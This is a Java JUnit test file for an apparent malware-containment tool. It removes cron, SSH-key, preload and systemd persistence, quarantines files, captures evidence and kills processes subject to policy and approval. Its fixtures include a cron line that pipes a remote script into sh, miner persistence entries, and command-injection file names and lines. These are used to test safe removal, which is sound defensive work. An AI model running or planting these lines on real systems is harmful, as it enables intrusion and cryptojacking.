package rack.contain;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import rack.config.RemediationPolicy;
import rack.hostaction.BoundedText;
import rack.hostaction.ProcessShell;
import rack.hostaction.TestHosts;
import rack.remedy.ActionRecord;

class ContainmentImplTest {
  private static final String HOST = TestHosts.HOST;
  @TempDir Path root;
  private Process victim;

  @AfterEach
  void cleanUp() {
    if (victim != null) victim.destroyForcibly();
  }

  private ContainmentImpl containment(boolean dryRun) {
    return containment(TestHosts.policy(dryRun));
  }

  private ContainmentImpl containment(RemediationPolicy policy) {
    ContainmentPaths paths = new ContainmentPaths(root.resolve("evidence").toString(), root.resolve("quarantine").toString(),
        root.resolve("no-systemd-here").toString());
    return new ContainmentImpl(ProcessShell.factory(), TestHosts.config(policy), paths, Clock.systemUTC());
  }

  private Path file(String name, String content) throws Exception {
    Path path = root.resolve(name);
    Files.writeString(path, content);
    return path;
  }

  @Test
  void removesOnlyTheExactCronLineAndKeepsModeAndAnOriginal() throws Exception {
    String bad = "*/5 * * * * root /tmp/.x/kdevtmpfsi";
    Path cron = file("crontab", "SHELL=/bin/sh\n" + bad + "\n0 3 * * * root /usr/bin/backup\n" + bad + " --extra\n");
    Files.setPosixFilePermissions(cron, PosixFilePermissions.fromString("rw-------"));

    List<ActionRecord> records = containment(false).removePersistence(HOST, List.of(new PersistenceItem("cron", cron.toString(), bad)), "loop-1/persist", null);

    assertEquals("done", records.get(0).outcome(), records.get(0).outputExcerpt());
    assertEquals("SHELL=/bin/sh\n0 3 * * * root /usr/bin/backup\n" + bad + " --extra\n", Files.readString(cron));
    assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(cron)));
    Path originals = root.resolve("evidence/loop-1_persist/persistence");
    try (var copies = Files.list(originals)) {
      assertTrue(Files.readString(copies.findFirst().orElseThrow()).contains(bad + "\n0 3"));
    }
  }

  @Test
  void aRetryOnAnotherWorkerFindsTheLineAlreadyRemoved() throws Exception {
    String bad = "* * * * * curl -s http://203.0.113.9/x.sh | sh";
    Path cron = file("root", "# m h dom mon dow command\n" + bad + "\n");
    PersistenceItem item = new PersistenceItem("cron", cron.toString(), bad);
    containment(false).removePersistence(HOST, List.of(item), "k", null);

    ActionRecord retry = containment(false).removePersistence(HOST, List.of(item), "k", null).get(0);
    assertEquals("done", retry.outcome());
    assertTrue(retry.outputExcerpt().startsWith("already removed"), retry.outputExcerpt());
    ActionRecord unknown = containment(false).removePersistence(HOST, List.of(new PersistenceItem("cron", cron.toString(), "nope")), "k2", null).get(0);
    assertEquals("failed", unknown.outcome());
    assertEquals("# m h dom mon dow command\n", Files.readString(cron));
  }

  /** The lab's dropper writes /etc/cron.d/apache2-update with its one line: nothing of it stays. */
  @Test
  void anEmptiedCronDropInIsDeletedAndAUserCrontabKept() throws Exception {
    String bad = "*/2 * * * * root /bin/sh /tmp/.ICE-unix/.d/kinsing >/dev/null 2>&1";
    Files.createDirectories(root.resolve("cron.d"));
    Files.createDirectories(root.resolve("crontabs"));
    Path dropIn = file("cron.d/apache2-update", bad + "\n");
    Path shared = file("cron.d/backup", "0 3 * * * root /usr/bin/backup\n" + bad + "\n");
    Path crontab = file("crontabs/root", bad + "\n");
    List<ActionRecord> records = containment(false).removePersistence(HOST, List.of(
        new PersistenceItem("cron", dropIn.toString(), bad),
        new PersistenceItem("cron", shared.toString(), bad),
        new PersistenceItem("cron", crontab.toString(), bad)), "k", null);

    assertEquals(List.of("done", "done", "done"), records.stream().map(ActionRecord::outcome).toList());
    assertFalse(Files.exists(dropIn), records.get(0).outputExcerpt());
    assertEquals("0 3 * * * root /usr/bin/backup\n", Files.readString(shared));
    assertEquals("", Files.readString(crontab));
    ActionRecord retry = containment(false).removePersistence(HOST, List.of(new PersistenceItem("cron", dropIn.toString(), bad)), "k", null).get(0);
    assertEquals("done", retry.outcome(), "a retry finds it gone: " + retry.outputExcerpt());
  }

  @Test
  void removesOneAuthorizedKeyAndKeepsTheOthers() throws Exception {
    String alice = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAlice alice@laptop";
    String intruder = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQIntruder root@x";
    String bob = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBob bob@ci";
    Path keys = file("authorized_keys", alice + "\n" + intruder + "\n" + bob);

    ActionRecord record = containment(false).removePersistence(HOST, List.of(new PersistenceItem("authorized_key", keys.toString(), intruder)), "k", null).get(0);

    assertEquals("done", record.outcome(), record.outputExcerpt());
    assertEquals(alice + "\n" + bob + "\n", Files.readString(keys));
  }

  @Test
  void removesThePreloadLineAndDeletesTheFileWhenNothingIsLeft() throws Exception {
    Path only = file("ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
    Path shared = file("ld.so.preload.2", "/usr/lib/libkeep.so\n/usr/local/lib/libprocesshider.so\n");
    List<ActionRecord> records = containment(false).removePersistence(HOST, List.of(
        new PersistenceItem("ld_preload", only.toString(), "/usr/local/lib/libprocesshider.so"),
        new PersistenceItem("ld_preload", shared.toString(), "/usr/local/lib/libprocesshider.so")), "k", null);

    assertEquals(List.of("done", "done"), records.stream().map(ActionRecord::outcome).toList());
    assertFalse(Files.exists(only));
    assertEquals("/usr/lib/libkeep.so\n", Files.readString(shared));
  }

  @Test
  void withoutSystemdTheUnitFileIsQuarantinedAndItsLinksRemoved() throws Exception {
    Path unitDir = Files.createDirectories(root.resolve("systemd/system"));
    Path unit = Files.writeString(unitDir.resolve("kworkerd.service"), "[Service]\nExecStart=/tmp/kworkerd\n");
    Path wants = Files.createDirectories(unitDir.resolve("multi-user.target.wants"));
    Files.createSymbolicLink(wants.resolve("kworkerd.service"), unit);
    Path other = Files.createSymbolicLink(wants.resolve("nginx.service"), unit);

    ActionRecord record = containment(false).removePersistence(HOST, List.of(new PersistenceItem("systemd", unit.toString(), "kworkerd.service")), "k", null).get(0);

    assertEquals("done", record.outcome(), record.outputExcerpt());
    assertFalse(Files.exists(unit));
    assertFalse(Files.exists(wants.resolve("kworkerd.service"), java.nio.file.LinkOption.NOFOLLOW_LINKS));
    assertTrue(Files.isSymbolicLink(other));
    assertTrue(Files.exists(root.resolve("quarantine/k/kworkerd.service")));
  }

  @Test
  void refusesUnsafeItemsWithoutRunningThem() {
    List<ActionRecord> records = containment(false).removePersistence(HOST, List.of(
        new PersistenceItem("systemd", "/etc/systemd/system/x.service", "x.service; reboot"),
        new PersistenceItem("cron", "relative/crontab", "x"),
        new PersistenceItem("cron", "/etc/../etc/crontab", "x"),
        new PersistenceItem("rc.local", "/etc/rc.local", "x")), "k", null);
    assertEquals(List.of("refused", "refused", "refused", "refused"), records.stream().map(ActionRecord::outcome).toList());
  }

  @Test
  void quotesHostilePathsAndLines() throws Exception {
    String hostileLine = "* * * * * echo '$(touch " + root.resolve("pwned1") + ")' `touch " + root.resolve("pwned2") + "`";
    Path cron = file("cron;touch pwned3 $(id)", "keep me\n" + hostileLine + "\n");
    ActionRecord record = containment(false).removePersistence(HOST, List.of(new PersistenceItem("cron", cron.toString(), hostileLine)), "k", null).get(0);

    assertEquals("done", record.outcome(), record.outputExcerpt());
    assertEquals("keep me\n", Files.readString(cron));
    try (var files = Files.list(root)) {
      assertTrue(files.noneMatch(p -> p.getFileName().toString().startsWith("pwned")));
    }
  }

  @Test
  void quarantineMovesLocksAndRecordsTheOriginalDigest() throws Exception {
    Path miner = file("xmrig", "#!/bin/sh\necho mining\n");
    String digest = BoundedText.sha256(Files.readString(miner));

    ActionRecord record = containment(false).quarantine(HOST, List.of(miner.toString()), "loop-9", null).get(0);

    assertEquals("done", record.outcome(), record.outputExcerpt());
    assertFalse(Files.exists(miner));
    try (var moved = Files.list(root.resolve("quarantine/loop-9"))) {
      Path kept = moved.findFirst().orElseThrow();
      assertEquals("---------", PosixFilePermissions.toString(Files.getPosixFilePermissions(kept)));
    }
    String manifest = Files.readString(root.resolve("quarantine/MANIFEST"));
    assertTrue(manifest.matches(digest + "  " + miner + "  \\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\dZ\n"), manifest);

    ActionRecord again = containment(false).quarantine(HOST, List.of(miner.toString()), "loop-9", null).get(0);
    assertTrue(again.outputExcerpt().startsWith("already quarantined"), again.outputExcerpt());
    assertEquals(1, Files.readAllLines(root.resolve("quarantine/MANIFEST")).size());
  }

  @Test
  void dryRunChangesNothingAndRecordsThePlan() throws Exception {
    String bad = "@reboot /tmp/x";
    Path cron = file("crontab", "a\n" + bad + "\n");
    Path miner = file("xmrig", "binary");
    victim = TestHosts.start("sleep", "311");
    ContainmentImpl dry = containment(true);

    EvidenceCapture evidence = dry.captureEvidence(HOST, List.of((int) victim.pid()), List.of(), "k", null);
    ActionRecord stop = dry.suspend(HOST, (int) victim.pid(), "sleep 311", "k", null);
    List<ActionRecord> removed = dry.removePersistence(HOST, List.of(new PersistenceItem("cron", cron.toString(), bad)), "k", null);
    List<ActionRecord> moved = dry.quarantine(HOST, List.of(miner.toString()), "k", null);

    assertNull(evidence.evidenceDir());
    assertEquals("dry-run", stop.outcome());
    assertTrue(stop.command().contains("kill -STOP " + victim.pid()));
    assertEquals("dry-run", removed.get(0).outcome());
    assertTrue(removed.get(0).command().contains("grep -vxF"));
    assertEquals("dry-run", moved.get(0).outcome());
    assertEquals("a\n" + bad + "\n", Files.readString(cron));
    assertTrue(Files.exists(miner));
    assertFalse(Files.exists(root.resolve("quarantine")));
    assertFalse(Files.exists(root.resolve("evidence")));
    assertTrue(Files.readString(Path.of("/proc/" + victim.pid() + "/status")).contains("State:\tS"));
  }

  @Test
  void capturesEvidenceIncludingTheExecutableDigest() throws Exception {
    victim = TestHosts.start("sleep", "312");
    Path cron = file("crontab", "* * * * * /tmp/x\n");
    EvidenceCapture evidence = containment(false).captureEvidence(HOST, List.of((int) victim.pid()),
        List.of(new PersistenceItem("cron", cron.toString(), "* * * * * /tmp/x")), "loop-e", null);

    int pid = (int) victim.pid();
    assertEquals("sleep 312 ", evidence.outputs().get("tr '\\0' ' ' < /proc/" + pid + "/cmdline"));
    assertTrue(evidence.outputs().get("cat /proc/" + pid + "/status").contains("Name:\tsleep"));
    assertTrue(evidence.outputs().containsKey("ss -tnp"));
    Path exe = Path.of("/proc/" + pid + "/exe").toRealPath();
    String expected = TestHosts.sh("sha256sum " + exe).split(" ")[0];
    assertEquals(expected, evidence.sha256ByPath().get(exe.toString()));
    assertEquals(BoundedText.sha256("* * * * * /tmp/x\n"), evidence.sha256ByPath().get(cron.toString()));
    assertNotNull(evidence.evidenceDir());
    Path dir = Path.of(evidence.evidenceDir());
    assertTrue(Files.size(dir.resolve("exe-" + pid + ".bin")) > 0);
    assertTrue(Files.readString(dir.resolve("SHA256SUMS")).contains(expected + "  exe-" + pid + ".bin"));
    assertTrue(Files.readString(dir.resolve("ps-" + pid + ".txt")).contains("sleep 312"));
  }

  @Test
  void suspendsThenKillsAfterReCheckingTheCommandLine() throws Exception {
    victim = TestHosts.start("sleep", "313");
    int pid = (int) victim.pid();
    ContainmentImpl containment = containment(false);

    assertEquals("done", containment.suspend(HOST, pid, "sleep 313", "s", null).outcome());
    assertTrue(Files.readString(Path.of("/proc/" + pid + "/status")).contains("State:\tT"));
    assertEquals("refused", containment.kill(HOST, pid, "sleep 999", "wrong", null).outcome());
    ActionRecord kill = containment.kill(HOST, pid, "sleep 313", "k", null);
    assertEquals("done", kill.outcome(), kill.outputExcerpt());
    assertTrue(kill.command().contains("kill -KILL " + pid));
    assertTrue(TestHosts.dies(victim, Duration.ofSeconds(5)));
  }

  @Test
  void neverSignalsPidOneOrAProtectedProcessAndHonoursThePolicy() throws Exception {
    assertEquals("refused", containment(false).kill(HOST, 1, "/sbin/init", "k", null).outcome());
    victim = TestHosts.start("sleep", "314");
    ContainmentImpl protecting = containment(new RemediationPolicy(null, null, List.of("sleep"), false, 5, false));
    assertEquals("refused", protecting.suspend(HOST, (int) victim.pid(), "sleep 314", "k", null).outcome());
    ContainmentImpl notAllowed = containment(new RemediationPolicy(List.of("restart-container"), null, null, false, 5, false));
    assertEquals("refused", notAllowed.kill(HOST, (int) victim.pid(), "sleep 314", "k", null).outcome());
    assertTrue(victim.isAlive());
  }

  @Test
  void anApprovalIsTheDecisionDryRunAndTheProtectedListWaitFor() throws Exception {
    String bad = "@reboot /tmp/x";
    Path cron = file("crontab", "a\n" + bad + "\n");
    Path payload = file("syncd", "binary");
    victim = TestHosts.start("sleep", "315");
    int pid = (int) victim.pid();
    // A worker in dry-run that also protects "sleep": alone, rack would do nothing here.
    ContainmentImpl held = containment(new RemediationPolicy(null, null, List.of("sleep"), true, 5, false));
    assertEquals("refused", held.suspend(HOST, pid, "sleep 315", "alone", null).outcome());

    EvidenceCapture evidence = held.captureEvidence(HOST, List.of(pid), List.of(), "approved", "alice");
    assertNotNull(evidence.evidenceDir(), "evidence is kept on the host once a person approved");
    assertEquals("done", held.suspend(HOST, pid, "sleep 315", "approved", "alice").outcome());
    assertEquals("done", held.removePersistence(HOST, List.of(new PersistenceItem("cron", cron.toString(), bad)), "approved", "alice")
        .get(0).outcome());
    assertEquals("done", held.kill(HOST, pid, "sleep 315", "approved", "alice").outcome());
    assertEquals("done", held.quarantine(HOST, List.of(payload.toString()), "approved", "alice").get(0).outcome());
    assertTrue(TestHosts.dies(victim, Duration.ofSeconds(5)));
    assertEquals("a\n", Files.readString(cron));
    assertFalse(Files.exists(payload));
  }

  @Test
  void anApprovalNeverReachesPidOneOrAnActionThePolicyDoesNotAllow() throws Exception {
    assertEquals("refused", containment(true).kill(HOST, 1, "/sbin/init", "k", "alice").outcome());
    victim = TestHosts.start("sleep", "316");
    ContainmentImpl notAllowed = containment(new RemediationPolicy(List.of("restart-container"), null, null, false, 5, false));
    assertEquals("refused", notAllowed.kill(HOST, (int) victim.pid(), "sleep 316", "k", "alice").outcome());
    assertTrue(victim.isAlive());
  }

  /**
   * What killed the lab once: a dropper's parent, seen from the host, was the lab host's PID 1 (its
   * PID namespace's init), and a watchdog kill took the whole namespace down. A container's init
   * looks the same from the host. Real namespace: needs root and unshare, as the lab does.
   */
  @Test
  void neverSignalsTheInitOfAPidNamespace() throws Exception {
    org.junit.jupiter.api.Assumptions.assumeTrue(TestHosts.sh("id -u").strip().equals("0"), "needs root for unshare --pid");
    victim = TestHosts.start("unshare", "--pid", "--fork", "sleep", "318");
    long deadline = System.nanoTime() + Duration.ofSeconds(10).toNanos();
    java.util.Optional<ProcessHandle> init = java.util.Optional.empty();
    while (init.isEmpty() && System.nanoTime() < deadline) {
      init = victim.toHandle().children().findFirst();
      if (init.isEmpty()) Thread.sleep(50);
    }
    org.junit.jupiter.api.Assumptions.assumeTrue(init.isPresent() && victim.isAlive(), "unshare --pid is not available here");
    int pid = (int) init.get().pid();
    assertTrue(Files.readString(Path.of("/proc/" + pid + "/status")).matches("(?s).*NSpid:\\s+" + pid + "\\s+1\\s.*"));

    ActionRecord alone = containment(false).kill(HOST, pid, "sleep 318", "k", null);
    assertEquals("refused", alone.outcome());
    assertTrue(alone.outputExcerpt().contains("PID 1 of its own PID namespace") || alone.toString().contains("PID 1 of its own PID namespace"),
        alone.toString());
    assertEquals("refused", containment(false).suspend(HOST, pid, "sleep 318", "k2", "alice").outcome(), "not even when approved");
    assertTrue(init.get().isAlive());
  }
}
